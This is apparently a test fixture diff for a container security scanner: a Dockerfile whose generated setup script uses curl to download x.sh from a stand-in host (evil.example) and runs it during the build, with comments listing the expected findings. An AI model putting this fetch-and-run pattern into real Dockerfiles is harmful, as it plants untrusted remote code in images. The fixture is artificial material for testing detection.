@@ -1,0 +1,10 @@
+FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
+COPY <<EOF /usr/local/bin/setup.sh
+#!/bin/sh
+curl -o /z https://evil.example/x.sh
+EOF
+RUN sh /usr/local/bin/setup.sh
+USER app
+# expect: download 6 high "curl fetches https://evil.example/x.sh"
+# expect-count: 3
+# expect-ids: VR101-c33602e201 VR301-767a1989de VR501-e064bac1a6
